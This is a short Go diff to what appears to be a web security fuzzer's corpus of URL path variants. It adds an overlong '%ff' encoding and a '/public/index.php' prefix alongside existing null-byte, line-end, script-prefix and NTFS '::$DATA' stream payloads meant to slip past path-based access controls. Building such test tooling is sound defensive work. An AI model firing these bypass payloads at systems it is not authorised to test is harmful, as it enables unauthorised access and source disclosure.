@@ -73,6 +73,7 @@ func (c *corpus) params() {
 
 func (c *corpus) tails() {
 	p := c.page
+	c.add("overlong", p+"%ff", "/"+c.name[:1]+"%ff"+c.name[1:])
 	c.add("tails", p+"+", "/+"+c.name, p+".", p+"..", p+"...", p+"%2e", p+"./", p+"%20", p+"%20/", p+"%20%20", p+".%20", p+"%00", p+"%00.css", p+"%00/x", p+"%2500",
 		p+"%c2%a0", p+"%e3%80%80", p+"%7f", "/%20"+c.name, "/%00"+c.name, "/"+c.name[:1]+"%00"+c.name[1:])
 	c.add("line-ends", p+"%0a", p+"%0d", p+"%0d%0a", p+"%09", p+"%0b", p+"%0c", p+"%250a", "/%0a"+c.name, "/%09"+c.name, "/%09"+p,
@@ -84,7 +85,7 @@ func (c *corpus) suffixes() {
 		c.add("suffixes", c.page+s)
 	}
 	c.add("scripts", "/index.php"+c.page, "/INDEX.PHP"+c.page, "/app.php"+c.page, "/index.php/x/.."+c.page, "/index%2ephp"+c.page, "/index.php//"+c.name, "/x/index.php/../.."+c.page)
-	c.add("scripts", "/index"+c.page, "/(S(x))"+c.page, "/(A(x)F(y))"+c.page)
+	c.add("scripts", "/public/index.php"+c.page, "/index"+c.page, "/(S(x))"+c.page, "/(A(x)F(y))"+c.page)
 	c.add("data-routes", "/_next/data/build"+c.page+".json", "/_next/data/x"+c.page+".json?page=1", "/%5fnext/data/build"+c.page+".json")
 	c.add("streams", c.page+"::$DATA", c.page+"::$data", c.page+"::$INDEX_ALLOCATION", c.page+"%3a%3a$DATA", c.page+":$i30:$INDEX_ALLOCATION/")
 }
